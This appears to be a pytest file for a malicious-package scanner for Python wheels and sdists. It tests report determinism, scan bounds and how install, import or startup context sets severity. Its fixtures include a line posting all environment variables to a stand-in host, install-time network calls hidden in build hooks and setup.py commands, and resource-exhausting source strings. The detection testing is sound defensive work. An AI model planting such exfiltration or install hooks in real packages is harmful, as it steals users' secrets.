"""One scan: the same bytes give the same report, and what was not seen is said."""

from __future__ import annotations

import base64
import io
from dataclasses import replace

import pytest

from support.scan import a_wheel, finding_of, rules_of, scan_import, scan_sdist, scan_wheel, the_ruleset
from wheelmark.scan import Context, Report, ScanBounds, Severity, Verdict, scan_stream
from wheelmark.scan.samples import WHEEL_NAME

POST = "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))\n"


def scan_bytes(raw: bytes, name: str = WHEEL_NAME) -> Report:
    return scan_stream(io.BytesIO(raw), filename=name, ruleset=the_ruleset(), bounds=ScanBounds())


def test_same_bytes_give_the_same_report() -> None:
    raw = a_wheel({"widget/__init__.py": POST, "widget/other.py": "eval('1')"})
    first, second = scan_bytes(raw), scan_bytes(raw)
    assert replace(first, elapsed_ms=0) == replace(second, elapsed_ms=0)


def test_empty_wheel_is_benign_and_complete() -> None:
    report = scan_wheel({"widget/__init__.py": ""})
    assert (report.verdict, report.score, report.findings, report.incomplete_reason) == (Verdict.BENIGN, 0.0, (), None)


@pytest.mark.parametrize("raw", [b"", b"no archive", a_wheel({"widget/__init__.py": "x = 1"})[:-30]])
def test_file_that_is_no_archive_is_incomplete(raw: bytes) -> None:
    report = scan_bytes(raw)
    assert report.verdict is Verdict.INCOMPLETE
    assert report.incomplete_reason


def test_source_beyond_the_bound_makes_the_scan_incomplete() -> None:
    report = scan_wheel({"widget/__init__.py": "x = 1\n" * 100}, bounds=ScanBounds(max_source_bytes=100))
    assert report.verdict is Verdict.INCOMPLETE
    assert report.incomplete_reason == "widget/__init__.py: expected at most 100 bytes of source, got more"


def test_sources_beyond_the_bound_in_total_make_the_scan_incomplete() -> None:
    members = {f"widget/m{number}.py": "x = 1\n" * 10 for number in range(5)}
    assert scan_wheel(members, bounds=ScanBounds(max_total_source_bytes=100)).verdict is Verdict.INCOMPLETE


def test_too_many_steps_make_the_scan_incomplete() -> None:
    report = scan_import("x = 1\n" * 100)
    assert report.verdict is Verdict.BENIGN
    bounded = scan_wheel({"widget/__init__.py": "x = 1\n" * 100}, bounds=ScanBounds(max_steps=50))
    assert bounded.verdict is Verdict.INCOMPLETE
    assert bounded.incomplete_reason == "expected at most 50 steps of evaluation, got more"


def test_decoded_text_beyond_the_bound_makes_the_scan_incomplete() -> None:
    blob = base64.b64encode(b"x" * 1000).decode()
    source = f"import base64\nTABLE = base64.b64decode('{blob}')\n"
    assert scan_import(source).verdict is Verdict.BENIGN
    bounded = scan_wheel({"widget/__init__.py": source}, bounds=ScanBounds(max_decoded_bytes=999))
    assert bounded.verdict is Verdict.INCOMPLETE


def test_malicious_finding_stands_although_the_scan_is_incomplete() -> None:
    members = {"widget/__init__.py": POST, "widget/large.py": "x = 1\n" * 100}
    report = scan_wheel(members, bounds=ScanBounds(max_source_bytes=200))
    assert report.verdict is Verdict.MALICIOUS
    assert report.incomplete_reason is not None


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "(" * 500 + ")" * 500,
        "x = " + "-" * 20_000 + "1",
        "x = " + "[" * 150 + "]" * 150,
        "x = " + "+".join(["'a'"] * 20_000),
        "x = '%999999999d' % 1",
        "x = '{:>999999999}'.format(1)",
        "x = 'a' * 10 ** 12",
        "x = 9 ** 9 ** 9",
        "x = 1 << 10 ** 9",
        "x = list(range(10 ** 15))",
        "x = 'a'.ljust(10 ** 10)",
        "x = 'ab'.replace('', 'a' * 10 ** 6)",
        "def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)",
        "f = lambda: f()\nf()",
        "class A(A): pass",
        "x = {}\nx['a'] = x\nx",
        "import base64\nx = 'a'\nfor i in range(4000):\n    x = x + x\n",
        "import sys\nx = int('9' * 5000)",
        "exec('exec(' * 50 + ')' * 50)",
        "x = bytes(10 ** 12)",
        "print(*[i for i in range(150000)])",
    ],
)
def test_hostile_source_ends_soon_and_quietly(source: str) -> None:
    report = scan_import(source)
    assert report.elapsed_ms < 5000
    assert rules_of(report) <= {"decoded-code-executed"}


def test_context_decides_what_the_same_call_is_worth() -> None:
    asked_for = (
        "import os, requests\ndef report():\n    requests.post('https://x.example.invalid', json=dict(os.environ))\n"
    )
    on_call = finding_of(scan_import(asked_for), "secrets-sent")
    assert (on_call.context, on_call.severity) == (Context.ON_CALL, Severity.MEDIUM)
    at_import = finding_of(scan_import(f"{asked_for}report()"), "secrets-sent")
    assert (at_import.context, at_import.severity) == (Context.IMPORT, Severity.CRITICAL)
    in_main = finding_of(scan_import(f"{asked_for}if __name__ == '__main__':\n    report()"), "secrets-sent")
    assert (in_main.context, in_main.severity) == (Context.ENTRY, Severity.HIGH)
    assert rules_of(scan_wheel({"widget/__init__.py": "", "docs/conf.py": f"{asked_for}report()"})) == set()


def test_main_part_of_setup_script_runs_at_installation() -> None:
    source = (
        "import urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('https://x.example.invalid')"
    )
    assert finding_of(scan_sdist({"setup.py": source}), "install-network").context is Context.INSTALL


@pytest.mark.parametrize(
    "members",
    [
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": "import urllib.request\ndef build_wheel(*a):\n    urllib.request.urlopen('https://x.example.invalid')",
        },
        {
            "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "hook.py"\n',
            "hook.py": (
                "import urllib.request\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
                "class Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
                "        urllib.request.urlopen('https://x.example.invalid')"
            ),
        },
        {
            "setup.py": (
                "import urllib.request\nfrom setuptools import setup\n"
                "from setuptools.command.egg_info import egg_info\n"
                "class Base(egg_info):\n    pass\nclass Command(Base):\n    def run(self):\n"
                "        self.fetch()\n    def fetch(self):\n        urllib.request.urlopen('https://x.example.invalid')\n"
                "setup(cmdclass={'egg_info': Command})"
            ),
        },
    ],
    ids=["in-tree backend", "hatchling hook", "cmdclass through two classes"],
)
def test_code_that_a_build_runs_counts_as_install(members: dict[str, str]) -> None:
    assert finding_of(scan_sdist(members), "install-network").context is Context.INSTALL


def test_start_file_runs_its_function_at_start_up() -> None:
    source = "import urllib.request\ndef go():\n    urllib.request.urlopen('https://x.example.invalid')"
    report = scan_wheel({"widget.start": "widget.boot:go\n", "widget/__init__.py": "", "widget/boot.py": source})
    assert finding_of(report, "install-network").context is Context.STARTUP


def test_wrapped_import_in_pth_file_is_no_alarm() -> None:
    line = "import sys; exec('try:\\n    import widget\\nexcept ImportError:\\n    pass')\n"
    report = scan_wheel({"widget.pth": line, "widget/__init__.py": ""})
    assert report.verdict is Verdict.BENIGN


def test_findings_name_file_line_and_what_was_seen() -> None:
    finding = finding_of(scan_import(POST), "secrets-sent")
    assert (finding.member, finding.line) == ("widget/__init__.py", 2)
    assert finding.evidence == "requests.post of os.environ (line 2)"
